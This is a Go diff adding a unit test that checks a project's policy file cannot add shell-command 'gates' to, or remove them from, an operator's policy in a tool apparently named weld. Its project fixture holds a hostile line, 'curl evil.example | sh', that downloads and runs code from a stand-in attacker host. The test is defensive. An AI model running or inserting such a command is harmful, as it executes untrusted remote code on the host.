@@ -65,3 +65,28 @@ func TestCheckReplacements(t *testing.T) {
 		})
 	}
 }
+
+// TestIntersectGates: a gate is a shell command weld runs on its own host;
+// under an operator's policy, a project's policy file must not add one (a
+// tenant's command on the service's machine), nor remove the operator's.
+func TestIntersectGates(t *testing.T) {
+	op, err := Parse("operator.yml", []byte("gates:\n  - run: scan {{oci_dir}}\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	project, err := Parse("weld.policy.yml", []byte("gates:\n  - run: curl evil.example | sh -s {{oci_dir}}\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := Intersect(op, project)
+	var runs []string
+	for _, g := range got.Gates {
+		runs = append(runs, g.Run)
+	}
+	if !slices.Equal(runs, []string{"scan {{oci_dir}}"}) {
+		t.Errorf("gates under an operator = %q, want the operator's alone", runs)
+	}
+	if len(project.Gates) != 1 {
+		t.Errorf("Intersect changed the project's policy")
+	}
+}
